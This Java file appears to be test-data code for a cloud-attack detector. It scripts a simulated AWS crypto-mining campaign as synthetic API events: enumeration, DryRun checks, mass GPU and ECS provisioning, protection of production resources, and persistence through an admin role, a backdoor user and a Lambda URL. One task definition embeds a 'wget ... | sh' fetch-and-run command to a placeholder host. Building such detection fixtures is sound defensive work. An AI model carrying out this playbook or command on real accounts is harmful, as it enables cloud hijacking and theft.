package io.trailsentry.testdata;

import java.util.ArrayList;
import java.util.List;

/**
 * The ten-minute crypto-mining campaign the README opens with, played by one identity: enumerate,
 * validate with DryRun, fan out ECS clusters and GPU autoscaling groups, switch on termination
 * protection, persist. Options produce its variants (Fargate-only, EC2 through spot and fleets,
 * slow, from a usual region, without DryRun).
 */
final class Campaign {
    static final String ATTACKER_IP = "203.0.113.77";
    static final String ATTACKER_UA =
            "Boto3/1.28.62 md/Botocore#1.31.62 ua/2.0 os/linux#6.2.0-1012 md/arch#x86_64"
                    + " lang/python#3.10.12 cfg/retry-mode#legacy Botocore/1.31.62";
    static final String MINER_IMAGE = "docker.io/cryptoworkers/xmr-node:latest";
    static final String[] FAR_REGIONS = {
        "ap-southeast-1", "ap-northeast-1", "sa-east-1", "eu-north-1", "ap-south-1"
    };

    /** Variant switches. */
    static final class Options {
        boolean ecs = true;
        boolean ec2 = true;
        boolean spotAndFleet;
        boolean dryRun = true;

        /** Multiplies every gap between calls (1 = the ten-minute campaign). */
        double slowdown = 1;

        /** Provision in the principal's usual region instead of far ones. */
        String onlyRegion;

        /**
         * Also touch production resources that exist already (protect, scale, re-create by name,
         * run tasks into, update, add a template version): a responder must not destroy them.
         */
        boolean touchProduction;

        /**
         * The stolen identity is one session of a CI role that deploys every working day and keeps
         * deploying, in its own sessions, while the thief works.
         */
        boolean ciSharesTheRole;
    }

    /** Production resources {@link Options#touchProduction} touches, in us-east-1. */
    static final String PROD_INSTANCE = "i-0prod0000000000a1";

    static final String PROD_SCALE_IN_GROUP = "web-prod-asg";
    static final String PROD_SCALED_GROUP = "batch-prod-asg";
    static final String PROD_CLUSTER = "payments-prod";
    static final String PROD_SERVICE = "payments-api";
    static final String PROD_TEMPLATE = "web-prod-lt";

    /** A group the campaign protects from scale-in without having created it. */
    static final String PROTECTED_GROUP = "asg-protect";

    private final Actor a;
    private final Options o;
    private final Labels.Attack label;
    private final String account;

    Campaign(Actor actor, Options options, Labels.Attack label) {
        this.a = actor;
        this.o = options;
        this.label = label;
        this.account = actor.who.accountId;
    }

    void play() {
        label.firstAttackEvent = a.now;
        enumerate();
        if (o.dryRun) {
            validate();
        }
        provision();
        label.stages.put("provisioning_complete", a.now);
        friction();
        if (o.touchProduction) {
            touchProduction();
        }
        persist();
    }

    private long gap(long ms) {
        return (long) (ms * o.slowdown);
    }

    private void step(long minMs, long maxMs, ApiCall call) {
        a.after(gap(minMs), gap(maxMs), call);
    }

    private String[] regions() {
        return o.onlyRegion != null ? new String[] {o.onlyRegion} : FAR_REGIONS;
    }

    private void enumerate() {
        label.stages.put("enumeration", a.call(Calls.getCallerIdentity()));
        for (String op :
                new String[] {
                    "ListUsers",
                    "ListRoles",
                    "ListAttachedUserPolicies",
                    "ListAccessKeys",
                    "GetAccountAuthorizationDetails"
                }) {
            step(1_000, 4_000, Calls.iamRead(op));
        }
        step(1_000, 3_000, Calls.ec2Read("DescribeRegions"));
        for (String r : new String[] {"us-east-1", "us-east-2", "us-west-2", "eu-west-1"}) {
            step(500, 2_000, Calls.ec2Read("DescribeInstances").in(r));
        }
        for (String r : regions()) {
            step(500, 2_000, Calls.ec2Read("DescribeInstanceTypeOfferings").in(r));
            step(500, 2_000, Calls.getServiceQuota("L-1216C47A").in(r));
            step(500, 2_000, Calls.getServiceQuota("L-DB2E81BA").in(r));
            step(500, 2_000, Calls.getServiceQuota("L-417A185B").in(r));
        }
        step(1_000, 2_000, Calls.ecsRead("ListClusters"));
        step(1_000, 2_000, Calls.read("lambda", "ListFunctions20150331"));
        step(1_000, 2_000, Calls.s3Read("ListBuckets", null));
        step(1_000, 2_000, Calls.read("sagemaker", "ListNotebookInstances"));
    }

    private void validate() {
        String[] r = regions();
        label.stages.put(
                "validation",
                a.after(
                        gap(2_000),
                        gap(4_000),
                        Calls.dryRunInstances("p3.2xlarge", true, a.rng).in(r[0])));
        step(1_000, 3_000, Calls.dryRunInstances("g4dn.xlarge", true, a.rng).in(r[r.length - 1]));
        step(1_000, 3_000, Calls.dryRunInstances("p4d.24xlarge", false, a.rng).in(r[0]));
        step(1_000, 3_000, Calls.dryRunInstances("c5.4xlarge", true, a.rng).in("us-east-2"));
        step(
                1_000,
                3_000,
                Calls.simulatePrincipalPolicy(a.who.principalArn())
                        .error(
                                "AccessDenied",
                                "User is not authorized to perform: iam:SimulatePrincipalPolicy"));
    }

    private void provision() {
        boolean first = true;
        String[] r = regions();
        if (o.ecs) {
            List<String> clusters = new ArrayList<>();
            for (int i = 0; i < 50; i++) {
                String region = r[i % r.length];
                String name = "ecs-" + a.rng.hex(6) + "-" + i;
                step(2_000, 5_000, Calls.createCluster(account, region, name));
                if (first) {
                    label.stages.put("provisioning", a.now);
                    label.firstProvisioningEvent = a.now;
                    first = false;
                }
                clusters.add(region + "/" + name);
                if (i % 10 == 0) {
                    step(
                            1_000,
                            2_000,
                            Calls.registerTaskDefinition(
                                    account,
                                    region,
                                    "worker-" + i,
                                    MINER_IMAGE,
                                    4096,
                                    8192,
                                    "sh",
                                    "-c",
                                    "wget -qO- http://203.0.113.9/init.sh | sh"));
                }
            }
            for (int i = 0; i < 10; i++) {
                String[] rc = clusters.get(i).split("/");
                step(
                        1_000,
                        2_000,
                        Calls.createService(
                                account, rc[0], rc[1], "svc-" + i, "worker-" + (i / 10) * 10, 20));
                if (i < 3) {
                    step(
                            1_000,
                            2_000,
                            Calls.runTask(account, rc[0], rc[1], "worker-0", 10, label.id));
                }
            }
        }
        if (o.ec2) {
            for (int i = 0; i < Math.min(2, r.length); i++) {
                String type = i == 0 ? "p3.16xlarge" : "g4dn.12xlarge";
                String lt = "lt-" + a.rng.hex(6);
                step(2_000, 4_000, Calls.createLaunchTemplate(lt, type, a.rng).in(r[i]));
                if (first) {
                    label.stages.put("provisioning", a.now);
                    label.firstProvisioningEvent = a.now;
                    first = false;
                }
                step(
                        2_000,
                        4_000,
                        Calls.createAutoScalingGroup("asg-" + a.rng.hex(6), lt, 20, 20, 999, true)
                                .in(r[i]));
            }
        }
        if (o.spotAndFleet) {
            for (String region : r) {
                step(2_000, 4_000, Calls.createFleet("p3.8xlarge", 40, a.rng).in(region));
                if (first) {
                    label.stages.put("provisioning", a.now);
                    label.firstProvisioningEvent = a.now;
                    first = false;
                }
                step(2_000, 4_000, Calls.requestSpotInstances("g5.12xlarge", 20, a.rng).in(region));
            }
        }
    }

    private void friction() {
        String region = regions()[0];
        String[] ids = new String[10];
        for (int i = 0; i < ids.length; i++) {
            ids[i] = "i-" + a.rng.hex(17);
        }
        step(
                2_000,
                4_000,
                Calls.runInstances("g4dn.12xlarge", ids.length, false, a.rng, ids).in(region));
        if (label.firstProvisioningEvent == 0) {
            label.stages.put("provisioning", a.now);
            label.firstProvisioningEvent = a.now;
        }
        boolean first = true;
        for (String id : ids) {
            step(1_000, 2_000, Calls.protectInstance(id).in(region));
            if (first) {
                label.stages.put("friction", a.now);
                first = false;
            }
        }
        if (o.ec2) {
            step(
                    1_000,
                    2_000,
                    Calls.setInstanceProtection(PROTECTED_GROUP, ids[0], ids[1]).in(region));
            label.untouchable.add(PROTECTED_GROUP);
        }
    }

    private void touchProduction() {
        String region = "us-east-1";
        step(1_000, 2_000, Calls.protectInstance(PROD_INSTANCE).in(region));
        step(
                1_000,
                2_000,
                Calls.setInstanceProtection(PROD_SCALE_IN_GROUP, "i-0prod0000000000b2").in(region));
        step(1_000, 2_000, Calls.updateAutoScalingGroup(PROD_SCALED_GROUP, 40).in(region));
        step(1_000, 2_000, Calls.createClusterExisting(account, region, PROD_CLUSTER, 3, 12));
        step(1_000, 2_000, Calls.runTask(account, region, PROD_CLUSTER, "worker-0", 5, label.id));
        step(1_000, 2_000, Calls.updateService(account, region, PROD_CLUSTER, PROD_SERVICE, 30));
        step(
                1_000,
                2_000,
                Calls.createLaunchTemplateVersion(PROD_TEMPLATE, 7, "p3.16xlarge").in(region));
        label.untouchable.addAll(
                List.of(
                        PROD_INSTANCE,
                        "i-0prod0000000000b2",
                        PROD_SCALE_IN_GROUP,
                        PROD_SCALED_GROUP,
                        PROD_CLUSTER,
                        PROD_CLUSTER + "/" + PROD_SERVICE,
                        PROD_TEMPLATE));
    }

    private void persist() {
        label.stages.put(
                "persistence",
                a.after(
                        gap(2_000),
                        gap(4_000),
                        Calls.createRole(account, "lambda-ops-exec", a.rng)));
        step(
                1_000,
                2_000,
                Calls.attachRolePolicy(
                        "lambda-ops-exec", "arn:aws:iam::aws:policy/AdministratorAccess"));
        step(1_000, 2_000, Calls.createServiceLinkedRole("ecs.amazonaws.com"));
        step(1_000, 2_000, Calls.createUser(account, "support-ses", a.rng));
        step(1_000, 2_000, Calls.createAccessKey("support-ses", "AKIA" + a.rng.upperAlnum(16)));
        step(
                1_000,
                2_000,
                Calls.createFunction(account, "us-east-1", "ops-healthcheck", "lambda-ops-exec"));
        step(1_000, 2_000, Calls.createFunctionUrl("us-east-1", "ops-healthcheck"));
    }
}
